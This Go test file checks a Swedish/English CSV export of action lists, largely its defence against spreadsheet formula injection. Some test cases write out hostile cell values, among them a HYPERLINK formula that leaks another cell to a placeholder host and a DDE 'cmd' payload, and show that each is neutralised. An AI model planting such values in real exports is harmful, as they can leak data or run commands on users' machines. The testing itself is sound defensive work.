package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"tertial/internal/tertial"
)

// readBack reads a list as a program that knows CSV does.
func readBack(t interface{ Fatalf(string, ...any) }, data []byte, comma rune) [][]string {
	rest, marked := bytes.CutPrefix(data, []byte("\ufeff"))
	if !marked {
		t.Fatalf("the list has no byte order mark")
	}
	r := csv.NewReader(bytes.NewReader(rest))
	r.Comma = comma
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("reading the list back: %v", err)
	}
	return rows
}

func TestAListInSwedish(t *testing.T) {
	var b bytes.Buffer
	if err := ActionsCSV(&b, "sv", listOf(nil, training())); err != nil {
		t.Fatal(err)
	}
	rows := readBack(t, b.Bytes(), ';')
	if len(rows) != 2 {
		t.Fatalf("got %d rows, want a head and one action", len(rows))
	}
	got := map[string]string{}
	for i, head := range rows[0] {
		got[head] = rows[1][i]
	}
	for head, want := range map[string]string{
		"Nr": "2024-7.2", "Krav": "7.2, 7.3", "Åtgärd": "Utbilda nya medarbetare", "Beskrivning": "Ta fram en kurs.\n\nHåll den.",
		"Prioritet": "Hög", "Läge": "Pågår", "Ansvarig": "HR, ISAM", "I samverkan med": "Kommunikation", "Följer upp": "",
		"Börjar": "2024-01-01", "Klar senast": "2024-04-30", "Datumet är": "exakt", "Tid enligt analysen": "T1 2024", "Så lästes den": "Tertial 1 2024.",
		"Delsteg klara": "1", "Delsteg totalt": "2", "Senaste svar": "Avviker", "Svarade": "2024-03-04", "Kommentar": "Väntar på lokal",
		"Att ta ställning till": "ansvarig saknas, datumet hade passerat",
	} {
		if got[head] != want {
			t.Errorf("%s: got %q, want %q", head, got[head], want)
		}
	}
}

func TestAListInEnglishHasCommas(t *testing.T) {
	var b bytes.Buffer
	if err := ActionsCSV(&b, "en", listOf(nil, training())); err != nil {
		t.Fatal(err)
	}
	rows := readBack(t, b.Bytes(), ',')
	if rows[0][0] != "No." || rows[1][4] != "High" || rows[1][5] != "In progress" {
		t.Errorf("got %q", rows)
	}
}

func TestAnEmptyListIsAHead(t *testing.T) {
	var b bytes.Buffer
	if err := ActionsCSV(&b, "sv", listOf(nil)); err != nil {
		t.Fatal(err)
	}
	if rows := readBack(t, b.Bytes(), ';'); len(rows) != 1 {
		t.Errorf("got %d rows, want the head", len(rows))
	}
}

func TestDefused(t *testing.T) {
	for _, tt := range []struct{ name, text, want string }{
		{"a plain text stays", "Ta fram en rutin", "Ta fram en rutin"},
		{"nothing stays nothing", "", ""},
		{"a formula", "=1+1", "'=1+1"},
		{"a link that sends what is in another cell", `=HYPERLINK("https://x/?"&A1,"klicka")`, `'=HYPERLINK("https://x/?"&A1,"klicka")`},
		{"a plus", "+46 8 123", "'+46 8 123"},
		{"a dash of a list", "- Ta fram", "'- Ta fram"},
		{"a minus sign", "−1", "'−1"},
		{"an at sign", "@SUM(A1)", "'@SUM(A1)"},
		{"behind white space", "  \u00a0=1+1", "'  \u00a0=1+1"},
		{"behind a quote", `"=1+1`, `'"=1+1`},
		{"behind a separator", `;=1+1`, `';=1+1`},
		{"behind all of them", ` ;"=1+1`, `' ;"=1+1`},
		{"a tab", "\tx", "'\tx"},
		{"a carriage return", "\rx", "'\rx"},
		{"a line break", "\nx", "'\nx"},
		{"a NUL", "\x00=1", "'\x00=1"},
		{"wide signs", "＝1+1", "'＝1+1"},
		{"a sign within", "1=1", "1=1"},
		{"an old trick of DDE", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"an apostrophe alone", "'s-Hertogenbosch", "'s-Hertogenbosch"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := Defused(tt.text); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestHostileTextsStayInTheirCells(t *testing.T) {
	hostile := []string{"a\"b", "a;b", "a,b", "a\r\nb", "a\nb", "\"", "\";=1+1;\"", "x\"\r\n\"=1+1", strings.Repeat("å", 40_000)}
	for _, title := range hostile {
		a := training()
		a.Title, a.Responsible = title, []string{title}
		var b bytes.Buffer
		if err := ActionsCSV(&b, "sv", listOf(nil, a)); err != nil {
			t.Fatal(err)
		}
		rows := readBack(t, b.Bytes(), ';')
		if len(rows) != 2 {
			t.Fatalf("%.40q: got %d rows, want 2", title, len(rows))
		}
		// A reader of CSV makes \n of \r\n within a cell.
		if want := strings.ReplaceAll(Defused(title), "\r\n", "\n"); rows[1][2] != want {
			t.Errorf("got %.60q, want %.60q", rows[1][2], want)
		}
	}
}

func TestNoCellOfAnyListIsAFormula(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		a := training()
		a.Title = rapid.StringMatching(`[ "';\t]{0,3}[=+@-]?[ -~åäö"\n]{0,12}`).Draw(t, "title")
		a.Note = rapid.String().Draw(t, "note")
		a.Responsible = []string{rapid.String().Draw(t, "role")}
		var b bytes.Buffer
		if err := ActionsCSV(&b, "en", listOf(nil, a)); err != nil {
			t.Fatalf("writing: %v", err)
		}
		for _, row := range readBack(t, b.Bytes(), ',') {
			for _, c := range row {
				if bare := strings.TrimLeft(c, " \t\"';"); bare != "" && strings.ContainsRune("=+-@", rune(bare[0])) && c[0] != '\'' {
					t.Fatalf("the cell %q can be taken for a formula", c)
				}
			}
		}
	})
}

func TestAListThatBreaksOffIsAnError(t *testing.T) {
	if err := ActionsCSV(io.Discard, "sv", listOf(errList, training())); !errors.Is(err, errList) {
		t.Errorf("got %v, want the list's error", err)
	}
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

func TestAReaderThatHasGoneEndsTheList(t *testing.T) {
	n := 0
	endless := func(yield func(tertial.Action, error) bool) {
		for n = 0; n < 1_000_000 && yield(training(), nil); n++ {
		}
	}
	if err := ActionsCSV(brokenWriter{}, "sv", endless); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("got %v, want the writer's error", err)
	}
	if n > 10_000 {
		t.Errorf("%d actions were read after the reader had gone", n)
	}
}
